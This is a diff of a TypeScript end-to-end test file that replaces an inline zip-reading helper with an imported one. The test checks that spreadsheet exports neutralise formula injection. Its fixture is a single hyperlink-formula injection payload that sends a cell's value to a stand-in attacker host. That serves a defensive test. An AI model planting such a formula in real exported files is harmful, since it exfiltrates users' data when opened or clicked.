@@ -13,6 +13,7 @@ import type { Databases } from '../support/databases.ts';
 import { startLocalApp } from '../support/local-app.ts';
 import type { LocalApp } from '../support/local-app.ts';
 import { MONDAY_MORNING, shiftedClock } from '../support/shifted-clock.ts';
+import { unzip } from '../support/unzip.ts';
 
 const clock = shiftedClock(MONDAY_MORNING);
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
@@ -181,30 +182,10 @@ test('[ADMIN-7] a formula is guarded in CSV, and text that stays text in a workb
 	expect(book.map(({ name }) => name)).toContain(FORMULA);
 	// A code keeps its zeros.
 	expect(book.map(({ code }) => code)).toContain('00042');
-	const [sheet] = await sheetOf(path);
+	const [sheet] = await unzip(await readFile(path), 'sheet1');
 	expect(sheet).not.toMatch(/<f[ >]/);
 	expect(sheet).toContain(`<c s="3" t="inlineStr"><is><t xml:space="preserve">=HYPERLINK`);
 });
-
-async function sheetOf(path: string): Promise<string[]> {
-	const { fromBuffer } = await import('yauzl').then((m) => m.default);
-	const bytes = await readFile(path);
-	return new Promise((resolve, reject) =>
-		fromBuffer(bytes, { lazyEntries: true }, (error, zip) => {
-			if (error) return reject(error);
-			zip.on('entry', (entry) => {
-				if (!entry.fileName.includes('sheet1')) return zip.readEntry();
-				zip.openReadStream(entry, (failure, stream) => {
-					if (failure) return reject(failure);
-					const pieces: Buffer[] = [];
-					stream.on('data', (piece: Buffer) => pieces.push(piece));
-					stream.on('end', () => resolve([Buffer.concat(pieces).toString()]));
-				});
-			});
-			zip.readEntry();
-		})
-	);
-}
 
 describe('[ADMIN-9] the ledger of a period', () => {
 	test('has a row for each rep credited; amounts sum up to the totals', async () => {
